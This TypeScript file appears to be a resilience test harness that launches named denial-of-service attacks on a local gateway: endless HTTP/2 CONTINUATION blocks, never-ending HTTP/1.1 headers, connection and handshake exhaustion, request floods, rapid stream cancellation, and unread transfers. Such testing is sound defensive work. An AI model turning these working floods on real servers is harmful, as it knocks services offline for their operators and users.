/**
 * What one caller does to a gateway, as a process of its own: `node attack.ts NAME TARGET`. Says `begun` once it is in full
 * swing, and goes on until it is killed.
 */

import { once } from 'node:events';
import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { type ConnectionOptions, connect as connectTls, type TLSSocket } from 'node:tls';
import { Flag, frame, PREFACE, settings, Type } from '../../wire/http2/frames.ts';

/** How the gateway is reached. */
export interface Target {
  readonly port: number;
  readonly ca: string;
  readonly cert: string;
  readonly key: string;
}

const CONNECTIONS = 1000;
/** Handshakes at a time. */
const AT_ONCE = 20;
/** As the gateway's entry for it may say. */
export const REQUESTS_PER_SECOND = 100;
/** What TLS costs the gateway is bounded by nothing but the caller's pace. */
const HANDSHAKES_PER_SECOND = 20;
const STRANGERS = 600;
const STRANGERS_PER_SECOND = 200;
/** A quarter of `limits.inFlight`, by a hundred a connection. */
const IN_FLIGHT = 1000;
const STREAMS = 100;
/** As many as one connection to an upstream may hold unread, and as many cancelled as retire it. */
const UNREAD = 34;
const RETIRING = 32;
const HEAD = 'GET /api/ HTTP/1.1\r\nHost: gateway.test\r\n';

/** GET https://gateway.test/api/, of the static table and literals (RFC 7541 §6). */
const REQUEST = Buffer.concat([
  Buffer.from([0x82, 0x87]),
  literal(0x04, '/api/'),
  literal(0x01, 'gateway.test'),
]);

export const ATTACKS = {
  /** A thousand connections with a field block that does not end. */
  endlessBlocks: async (target: Target) => {
    await onConnections(target, 'h2', async (socket) => {
      socket.write(
        Buffer.concat([
          PREFACE,
          settings(),
          frame(Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 1, REQUEST),
        ]),
      );
      await once(socket, 'data');
      socket.write(frame(Type.HEADERS, Flag.NONE, 3, REQUEST));
      for (let frames = 0; frames < 14; frames++) {
        socket.write(frame(Type.CONTINUATION, Flag.NONE, 3, Buffer.alloc(16_000)));
      }
    });
  },
  /** A thousand connections with a head that does not end. */
  endlessHeads: async (target: Target) => {
    await onConnections(target, 'http/1.1', async (socket) => {
      socket.write(`${HEAD}\r\n`);
      await once(socket, 'data');
      socket.write(
        `${HEAD}${Array.from({ length: 15 }, (_, n) => `x-${n}: ${'a'.repeat(3900)}\r\n`).join('')}`,
      );
    });
  },
  /** As many connections as it may have, and more. */
  idleConnections: async (target: Target) => {
    await onConnections(
      target,
      'http/1.1',
      async (socket) => {
        socket.write(`${HEAD}\r\n`);
        await once(socket, 'data');
      },
      1500,
    );
  },
  /** A connection for each request. */
  newConnections: (target: Target) =>
    steadily(HANDSHAKES_PER_SECOND, 1, async () => {
      const socket = connectTls(as(target, 'http/1.1'));
      socket.on('error', () => {});
      await once(socket, 'secureConnect');
      socket.write(`${HEAD}\r\n`);
      await once(socket, 'data');
      socket.destroy();
    }),
  strangers: (target: Target) => beNobody(target, '127.0.0.2'),
  /** As many of them at the address of the caller that must not notice. */
  neighbours: (target: Target) => beNobody(target, '127.0.0.1'),
  /** Twenty times as many requests as it may send. */
  requestFlood: async (target: Target) => {
    const session = await openSession(target);
    await steadily(20 * REQUESTS_PER_SECOND, REQUESTS_PER_SECOND, async () => {
      const stream = session.request({ ':path': '/api/' });
      stream.on('error', () => {}).resume();
      await once(stream, 'close');
    });
  },
  /** A thousand a second. */
  cancelledRequests: (target: Target) =>
    cancelling(target, '/api/slow', { atOnce: 30, everyMs: 30, cancelled: 400 }),
  /** 810 in six seconds. */
  cancelledDownloads: (target: Target) =>
    cancelling(target, '/api/large', { atOnce: 45, everyMs: 330, cancelled: 90 }),
  /** Everything that it may have in flight, with answers that it does not read. */
  unreadDownloads: async (target: Target) => {
    for (let sessions = 0; sessions < IN_FLIGHT / STREAMS; sessions++) {
      const session = await openSession(target);
      for (let count = 0; count < STREAMS; count++) {
        session.request({ ':path': '/api/large' }).on('error', () => {});
      }
      await pause(150);
    }
  },
  /** The same, a third at a time, on connections to the upstream that retire because it cancels another third. */
  unreadWhileCancelling: async (target: Target) => {
    for (let kept = 0; kept + UNREAD <= IN_FLIGHT; kept += UNREAD) {
      const session = await openSession(target);
      const downloads = Array.from({ length: UNREAD + RETIRING }, () =>
        session.request({ ':path': '/api/large' }).on('error', () => {}),
      );
      await pause(150);
      for (const stream of downloads.slice(-RETIRING)) stream.close(constants.NGHTTP2_CANCEL);
    }
  },
  /** Everything that it may have in flight, with bodies that the upstream does not read. */
  unreadUploads: async (target: Target) => {
    for (let sessions = 0; sessions < IN_FLIGHT / STREAMS; sessions++) {
      const session = await openSession(target);
      for (let count = 0; count < STREAMS; count++) {
        const upload = session.request({ ':method': 'POST', ':path': '/api/slow' }, { endStream: false });
        upload.on('error', () => {});
        upload.write(Buffer.alloc(256 * 1024));
      }
    }
    await pause(500);
  },
} satisfies Record<string, (target: Target) => Promise<void>>;

/** More connections without a handshake than there may be of nobody, one for each that is closed. */
async function beNobody({ port }: Target, localAddress: string): Promise<void> {
  const open = new Set<Socket>();
  await steadily(STRANGERS_PER_SECOND, STRANGERS, async () => {
    if (open.size >= STRANGERS) return;
    const socket = connect({ host: '127.0.0.1', localAddress, port });
    open.add(socket);
    socket.on('error', () => {});
    socket.on('close', () => open.delete(socket));
  });
}

/** From an address of its own. */
function as(target: Target, protocol: string): ConnectionOptions & { localAddress: string } {
  const { port, ca, cert, key } = target;
  return {
    host: '127.0.0.1',
    localAddress: '127.0.0.2',
    port,
    ca,
    cert,
    key,
    servername: 'gateway.test',
    ALPNProtocols: [protocol],
  };
}

/** A field without indexing, with the name at this index. */
function literal(index: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')]);
}

/** What a refused connection says, or does not, is nothing that stops an attack. */
async function onConnections(
  target: Target,
  protocol: string,
  act: (socket: TLSSocket) => Promise<void>,
  most = CONNECTIONS,
): Promise<void> {
  let made = 0;
  const make = async (): Promise<void> => {
    while (made++ < most) {
      const socket = connectTls(as(target, protocol));
      socket.on('error', () => {});
      const gone = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      await Promise.race([
        once(socket, 'secureConnect')
          .then(() => act(socket))
          .catch(() => {}),
        gone,
      ]);
      socket.resume();
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, make));
}

/** Begins so many a second, whatever becomes of them; resolves once it has begun some. */
async function steadily(perSecond: number, some: number, act: () => Promise<void>): Promise<void> {
  const beganMs = performance.now();
  const begun = Promise.withResolvers<void>();
  let count = 0;
  setInterval(() => {
    const due = Math.floor(((performance.now() - beganMs) / 1000) * perSecond);
    // Whoever was held up does not make up for it all at once.
    count = Math.max(count, due - Math.ceil(perSecond / 100));
    for (; count < due; count++) act().catch(() => {});
    if (count >= some) begun.resolve();
  }, 5);
  await begun.promise;
}

async function openSession(target: Target): Promise<ClientHttp2Session> {
  const session = connectHttp2(`https://gateway.test:${target.port}`, as(target, 'h2') as object);
  session.on('error', () => {});
  await once(session, 'connect').catch(() => {});
  return session;
}

interface Cancelling {
  readonly atOnce: number;
  readonly everyMs: number;
  /** So many are the beginning. */
  readonly cancelled: number;
}

/** On one connection after the other. Resolves when it is under way; goes on by itself. */
async function cancelling(
  target: Target,
  path: string,
  { atOnce, everyMs, cancelled }: Cancelling,
): Promise<void> {
  let count = 0;
  const begun = Promise.withResolvers<void>();
  const go = async (): Promise<void> => {
    for (;;) {
      const session = await openSession(target);
      for (let ofSession = 0; ofSession < 900 && !session.destroyed && !session.closed; ofSession += atOnce) {
        const streams = Array.from({ length: atOnce }, () => session.request({ ':path': path }));
        for (const stream of streams) stream.on('error', () => {}).resume();
        await pause(everyMs);
        for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
        count += streams.length;
        if (count > cancelled) begun.resolve();
      }
      session.destroy();
    }
  };
  void go();
  await begun.promise;
}

if (import.meta.main) {
  const [name = '', target = ''] = process.argv.slice(2);
  const attack = (ATTACKS as Readonly<Record<string, (target: Target) => Promise<void>>>)[name];
  if (attack === undefined) throw new Error(`no attack is named ${name}`);
  await attack(JSON.parse(target) as Target);
  process.stdout.write('begun\n');
  setInterval(() => {}, 1000);
}
